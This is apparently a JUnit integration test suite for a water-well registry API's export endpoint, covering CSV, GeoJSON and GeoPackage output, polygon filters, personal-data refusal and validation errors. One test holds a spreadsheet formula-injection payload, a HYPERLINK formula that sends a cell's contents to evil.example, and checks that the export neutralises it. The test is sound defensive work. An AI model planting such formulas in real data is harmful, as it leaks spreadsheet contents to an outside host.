package org.manhal.api.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.manhal.support.ApiClient;
import org.manhal.support.Gdal;
import org.manhal.support.ApiClient.Response;
import org.manhal.support.ManhalApiTest;
import org.manhal.support.Wells;

import tools.jackson.databind.JsonNode;

/**
 * Exports in every format, read back as what they claim to be (CSV rows, GeoJSON, a GeoPackage
 * that GDAL opens), with the list's filters and a polygon, and never with personal data unless
 * the policy allows it.
 */
@ManhalApiTest
class WellExportIntegrationTests {

    @TempDir
    Path dir;

    final ApiClient api;
    double[] spot;

    WellExportIntegrationTests(ApiClient api) {
        this.api = api;
    }

    @BeforeEach
    void setUp() {
        spot = Wells.freshSpot();
        ExportFixtures.wellsAt(api, spot);
    }

    @Test
    void exportsCsvRowsWithoutPersonalData() {
        Response r = api.get("/api/wells/export?format=csv&bbox=" + ExportFixtures.bbox(spot));

        assertThat(r.status()).isEqualTo(200);
        assertThat(r.header("Content-Type")).startsWith("text/csv");
        assertThat(r.header("Content-Disposition")).contains("wells.csv");
        List<String> lines = r.body().lines().toList();
        assertThat(lines).hasSize(4);
        assertThat(lines.get(0)).startsWith("id,registryNumber,lon,lat,type,use,status").doesNotContain("owner", "plot");
        assertThat(lines).anySatisfy(l -> assertThat(l).contains("BOREHOLE,DOMESTIC,ACTIVE,90.5").contains("\"Al Noor, LLC\"")
                .contains(",OM-WU-"));
        assertThat(r.body()).doesNotContain(ExportFixtures.OWNER, ExportFixtures.CIVIL_ID, "PL-0");
    }

    @Test
    void aCsvCellThatASpreadsheetWouldRunAsAFormulaIsNeutralised() {
        double[] p = Wells.freshSpot();
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        Response created = api.post("/api/wells", "application/geo+json", Wells.feature(p[0], p[1], "BOREHOLE", "DOMESTIC",
                "ACTIVE", "\"depthM\":-0.0,\"drillingContractor\":\"" + formula.replace("\"", "\\\"") + "\""));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);

        Response r = api.get("/api/wells/export?format=csv&bbox=" + Wells.bboxAround(p[0], p[1]));

        String row = r.body().lines().filter(l -> l.startsWith(created.json().get("id").asString() + ",")).findFirst().orElseThrow();
        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",")
                .doesNotContain(",=HYPERLINK", ",\"=HYPERLINK");
    }

    @Test
    void exportsAValidGeoJsonFeatureCollectionFilteredByUse() {
        Response r = api.get("/api/wells/export?format=geojson&use=AGRICULTURAL&bbox=" + ExportFixtures.bbox(spot));

        JsonNode fc = r.json();
        assertThat(fc.path("type").asString()).isEqualTo("FeatureCollection");
        assertThat(fc.path("features")).hasSize(1);
        JsonNode f = fc.path("features").get(0);
        assertThat(f.path("geometry").path("type").asString()).isEqualTo("Point");
        assertThat(f.path("geometry").path("coordinates").get(0).asDouble()).isEqualTo(Math.round((spot[0] + 0.001) * 1e7) / 1e7);
        assertThat(f.path("properties").path("use").asString()).isEqualTo("AGRICULTURAL");
        assertThat(f.path("properties").has("owner")).isFalse();
        assertThat(r.body()).doesNotContain(ExportFixtures.CIVIL_ID);
    }

    @Test
    void exportsOnlyTheWellsInsideAPolygonGivenAsWktOrGeoJson() {
        String wkt = URLEncoder.encode(ExportFixtures.firstTwo(spot), StandardCharsets.UTF_8);
        Response get = api.get("/api/wells/export?format=csv&governorate=OM-WU&within=" + wkt);
        String polygon = "{\"type\":\"Polygon\",\"coordinates\":" + ExportFixtures.firstTwo(spot)
                .replace("POLYGON((", "[[[").replace("))", "]]]").replace(",", "],[").replace(" ", ",") + "}";
        Response post = api.post("/api/wells/export?format=geojson", "application/geo+json", polygon);

        assertThat(get.body().lines().count()).as(get.body()).isEqualTo(3);
        assertThat(post.json().path("features")).as(post.body()).hasSize(2);
    }

    @Test
    void exportsAGeoPackageThatGdalReadsBack() throws IOException, InterruptedException {
        HttpResponse<byte[]> r = HttpClient.newHttpClient().send(api.authorize(HttpRequest.newBuilder(
                api.uri("/api/wells/export?format=gpkg&bbox=" + ExportFixtures.bbox(spot)))).build(), HttpResponse.BodyHandlers.ofByteArray());
        Path gpkg = dir.resolve("wells.gpkg");
        Files.write(gpkg, r.body());

        assertThat(r.statusCode()).isEqualTo(200);
        String info = Gdal.run("ogrinfo", "-ro", "-al", "-so", gpkg.toString());
        assertThat(info).contains("Feature Count: 3").contains("Point").contains("registryNumber").doesNotContain("owner");
        String csv = Gdal.run("ogr2ogr", "-f", "CSV", "/vsistdout/", gpkg.toString(), "-lco", "GEOMETRY=AS_XY");
        assertThat(csv).contains("DOMESTIC").doesNotContain(ExportFixtures.CIVIL_ID);
    }

    @Test
    void refusesPersonalDataUnlessThePolicyAllowsIt() {
        Response r = api.get("/api/wells/export?format=csv&includePersonal=true&bbox=" + ExportFixtures.bbox(spot));

        assertThat(r.status()).isEqualTo(403);
        assertThat(r.json().path("type").asString()).endsWith("personal-data-forbidden");
        assertThat(r.json().path("detailAr").asString()).isNotBlank();
    }

    @Test
    void refusesBadFiltersWithProblems() {
        String bowtie = URLEncoder.encode("POLYGON((56 20,56.1 20.1,56.1 20,56 20.1,56 20))", StandardCharsets.UTF_8);
        List<String> codes = Arrays.asList(
                code("/api/wells/export?format=xlsx"), code("/api/wells/export?within=" + bowtie),
                code("/api/wells/export?within=POINT(56%2020)"), code("/api/wells/export?within=nonsense"),
                code("/api/wells/export?wilayat=OM-XX-NOPE"));
        assertThat(codes).containsExactly("UNKNOWN_VALUE", "SELF_INTERSECTION", "NOT_A_POLYGON", "INVALID_WKT", "UNKNOWN_AREA");
    }

    private String code(String path) {
        Response r = api.get(path);
        assertThat(r.status()).as(path + " " + r.body()).isEqualTo(400);
        return r.json().path("errors").get(0).path("code").asString().toUpperCase(Locale.ROOT);
    }
}
